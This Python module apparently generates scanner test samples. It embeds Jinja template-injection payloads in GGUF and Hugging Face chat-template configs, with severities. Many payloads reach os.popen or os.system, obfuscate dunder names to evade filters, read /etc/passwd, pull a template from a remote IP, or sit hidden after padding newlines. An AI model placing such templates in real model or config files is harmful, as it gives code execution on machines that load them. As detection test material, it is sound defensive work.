"""Chat templates that reach Python's internals, in GGUF files and in the files of a repository."""
import json

from samples import gguf

START = "{% for message in messages %}{{ '<|' + message['role'] + '|>' + message['content'] }}{% endfor %}"

# Each renders a command's result or gets at a way to run one; the least severity is critical unless it is said.
TEMPLATES = {
    "lipsum": "{{ lipsum.__globals__.os.popen('id').read() }}",
    "lipsum_item": "{{ lipsum['__globals__']['os']['popen']('id') }}",
    "range_class": "{{ range.__class__.__mro__[-1].__subclasses__() }}",
    "joiner": "{{ joiner.__init__.__globals__.os.system('id') }}",
    "namespace_init": "{{ namespace.__init__.__globals__['__builtins__']['eval']('1') }}",
    "dict_class": "{{ dict.__base__.__subclasses__() }}",
    "messages_class": "{{ messages.__class__.__base__ }}",
    "request_application": "{{ raise_exception.__globals__['sys'].modules['os'].popen('id') }}",
    "attr_filter": "{{ messages|attr('__class__')|attr('__mro__') }}",
    "attr_concat": "{{ ''|attr('__cl' ~ 'ass__')|attr('__mr' ~ 'o__') }}",
    "attr_plus": "{{ ''|attr('__cl' + 'ass__') }}",
    "attr_join": "{{ ''|attr(['__cl','ass__']|join) }}",
    "attr_join_map": "{{ ''|attr(['_'*2,'class','_'*2]|join) }}",
    "attr_format": "{{ ''|attr('%sclass%s'|format('__','__')) }}",
    "attr_str_format": "{{ ''|attr('{0}class{0}'.format('__')) }}",
    "attr_percent": "{{ ''|attr('%s%s' % ('__cla','ss__')) }}",
    "attr_hex": "{{ ''|attr('\\x5f\\x5fclass\\x5f\\x5f') }}",
    "attr_unicode": "{{ ''|attr('\\u005f\\u005fclass\\u005f\\u005f') }}",
    "attr_octal": "{{ ''|attr('\\137\\137class\\137\\137') }}",
    "attr_reverse": "{{ ''|attr('__ssalc__'|reverse) }}",
    "attr_slice_reverse": "{{ ''|attr('__ssalc__'[::-1]) }}",
    "attr_replace": "{{ ''|attr('_.class_.'|replace('.','_')) }}",
    "attr_replace_method": "{{ ''|attr('XXclassXX'.replace('X','_')) }}",
    "attr_lower": "{{ ''|attr('__CLASS__'|lower) }}",
    "attr_lower_method": "{{ ''|attr('__CLASS__'.lower()) }}",
    "attr_trim": "{{ ''|attr('  __class__ '|trim) }}",
    "attr_set": "{% set a = '__cla' %}{% set b = 'ss__' %}{{ ''|attr(a ~ b) }}",
    "attr_namespace": "{% set ns = namespace(k='__class__') %}{{ ''|attr(ns.k) }}",
    "attr_loop_join": "{% set ns = namespace(k='') %}{% for p in ['__','class','__'] %}{% set ns.k = ns.k ~ p %}{% endfor %}{{ ''|attr(ns.k) }}",
    "attr_dict": "{{ ''|attr({'k':'__class__'}['k']) }}",
    "attr_dict_get": "{{ ''|attr({'k':'__class__'}.get('k')) }}",
    "attr_conditional": "{{ ''|attr('__class__' if true else 'x') }}",
    "attr_default": "{{ ''|attr(nothing|default('__class__')) }}",
    "attr_first": "{{ ''|attr(['__class__']|first) }}",
    "attr_last": "{{ ''|attr(('a','__class__')|last) }}",
    "attr_split": "{{ ''|attr('a,__class__'.split(',')[1]) }}",
    "attr_dict_keys": "{{ ''|attr(dict(__class__=1)|first) }}",
    "attr_dict_join": "{{ ''|attr(dict(__cla=1,ss__=1)|join) }}",
    "attr_macro": "{% macro m(n) %}{{ ''|attr(n) }}{% endmacro %}{{ m('__class__') }}",
    "attr_call_block": "{% macro w() %}{{ caller('__class__') }}{% endmacro %}{% call(n) w() %}{{ ''|attr(n) }}{% endcall %}",
    "attr_filter_block": "{% set n %}{% filter replace('-','_') %}--class--{% endfilter %}{% endset %}{{ ''|attr(n) }}",
    "attr_set_block": "{% set n %}__class__{% endset %}{{ ''|attr(n) }}",
    "attr_with": "{% with n='__class__' %}{{ ''|attr(n) }}{% endwith %}",
    "attr_import_self": "{% import 'x' as y %}{{ ''|attr('__class__') }}",
    "attr_url": "{{ ''|attr('%5F%5Fclass%5F%5F'|urlencode) }}{{ ''.__class__ }}",
    "attr_chr": "{{ ''|attr('%c%cclass%c%c'|format(95,95,95,95)) }}",
    "map_attribute": "{{ ['']|map(attribute='__class__')|list }}",
    "map_attribute_dotted": "{{ ['']|map(attribute='__class__.__mro__')|list }}",
    "map_attr_filter": "{{ ['']|map('attr','__class__')|list }}",
    "sort_attribute": "{{ ['']|sort(attribute='__class__') }}",
    "groupby_attribute": "{{ ['']|groupby('__class__') }}",
    "selectattr": "{{ ['']|selectattr('__class__') |list }}",
    "sum_attribute": "{{ ['']|sum(attribute='__class__') }}",
    "unique_attribute": "{{ ['']|unique(attribute='__class__')|list }}",
    "max_attribute": "{{ ['']|max(attribute='__class__') }}",
    "item_hex": "{{ ''['\\x5f\\x5fclass\\x5f\\x5f'] }}",
    "item_concat": "{{ ''['__cl'~'ass__']['__mro__'] }}",
    "item_variable": "{% set c = '__class__' %}{{ ''[c] }}",
    "format_method": "{{ '{0.__class__.__init__.__globals__}'.format(messages) }}",
    "format_map_method": "{{ '{a.__class__}'.format_map({'a': messages}) }}",
    "cycler": "{{ cycler.__init__.__globals__ }}",
    "self_module": "{{ self.__init__.__globals__ }}",
    "self_template": "{{ self._TemplateReference__context }}",
    "loop_recursion": "{% for m in [1] recursive %}{{ loop.__init__.__globals__ }}{% endfor %}",
    "caller_globals": "{% macro m() %}{{ caller.__globals__ }}{% endmacro %}{% call m() %}{% endcall %}",
    "macro_function": "{% macro m() %}{% endmacro %}{{ m._func.__globals__ }}",
    "macro_environment": "{% macro m() %}{% endmacro %}{{ m._environment }}",
    "undefined_globals": "{{ anything.__init__.__globals__ }}",
    "strftime_globals": "{{ strftime_now.__globals__ }}",
    "tools_closure": "{{ raise_exception.__closure__ }}",
    "gi_frame": "{{ (messages|map('upper')).gi_frame.f_globals }}",
    "dunder_import": "{{ ''.__class__.__mro__[1].__subclasses__()[84].load_module('os') }}",
    "dunder_getattribute": "{{ ''.__getattribute__('__class__') }}",
    "dunder_doc": "{{ ''.__doc__ }}", "dunder_init_only": "{{ dict.__init__ }}",
    "comment_hides": "{# harmless #}" + START + "{#-#}{{ lipsum.__globals__ }}",
    "after_template": START + "\n" * 200 + "{{ cycler.__init__.__globals__.os.popen('id') }}",
    "in_condition": START + "{% if lipsum.__globals__.os.system('id') %}{% endif %}",
    "in_loop_iterable": "{% for x in ''.__class__.__mro__ %}{% endfor %}",
    "in_set": "{% set x = lipsum.__globals__ %}",
    "in_macro_default": "{% macro m(a=lipsum.__globals__) %}{% endmacro %}",
    "in_test": "{{ lipsum.__globals__ is defined }}",
    "in_generation": START + "{% generation %}{{ ''.__class__ }}{% endgeneration %}",
    "in_do": "{% do messages.append(''.__class__) %}",
    "in_slice": "{{ messages[:''.__class__] }}",
    "in_filter_argument": "{{ 'a'|replace('a', ''.__class__) }}",
    "in_keyword": "{{ namespace(a=''.__class__) }}",
    "line_statement": START + "{%- if true -%}{{- ''.__class__ -}}{%- endif -%}",
    "raw_escape": "{% raw %}{{ harmless }}{% endraw %}{{ ''.__class__ }}",
    "unfinished": "{{ lipsum.__globals__.os.popen('id').read() }}{% if",
    "include_file": "{% include '/etc/passwd' %}",
    "import_file": "{% from '../../secret.txt' import a %}",
    "extends_file": "{% extends 'http://198.51.100.7/t' %}",
}
LOWER = {"unfinished": "high", "dunder_doc": "medium", "include_file": "medium", "import_file": "medium", "extends_file": "medium", "attr_url": "critical",
         "self_template": "high", "macro_environment": "high", "dunder_init_only": "high", "gi_frame": "critical"}

CONFIG = {"tokenizer_class": "LlamaTokenizer", "bos_token": "<s>", "eos_token": "</s>"}


def build(samples):
    for name, template in TEMPLATES.items():
        severity = LOWER.get(name, "critical")
        pairs = [("general.architecture", "llama"), ("general.name", "assay"), ("tokenizer.chat_template", template)]
        samples.attack(f"template/{name}.gguf", gguf(pairs), f"template: {name}", severity, "gguf")
    evil = TEMPLATES["attr_join"]
    named = [{"name": "default", "template": START}, {"name": "tool_use", "template": evil}]
    samples.attack("repository/named/tokenizer_config.json", json.dumps({**CONFIG, "chat_template": named}), "second named template", format="hf-config")
    samples.attack("repository/object/tokenizer_config.json", json.dumps({**CONFIG, "chat_template": {"default": START, "rag": evil}}), "named templates as an object", format="hf-config")
    samples.attack("repository/jinja/additional_chat_templates/rag.jinja", START + evil, "additional chat template", format="jinja")
    samples.attack("repository/processor/processor_config.json", json.dumps({"processor_class": "X", "chat_template": evil}), "processor template", format="hf-config")
    samples.attack("repository/jinja/chat_template.jinja", START + TEMPLATES["lipsum"], "chat_template.jinja", format="jinja")
    samples.attack("repository/generation/generation_config.json", json.dumps({"chat_template": TEMPLATES["joiner"]}), "template in a generation config", format="hf-config")
    samples.attack("repository/prompt/prompt.json", json.dumps({"prompt_template": TEMPLATES["cycler"], "template_format": "jinja2"}), "prompt file with a Jinja template", "high", format="hf-config")
    keys = ["tokenizer.chat_template.tool_use", "tokenizer.chat_template.rag", "tokenizer.chat_template"]
    for number, key in enumerate(keys):
        samples.attack(f"template/key_{number}.gguf", gguf([("general.architecture", "llama"), (key, evil)]), f"template under {key}", format="gguf")
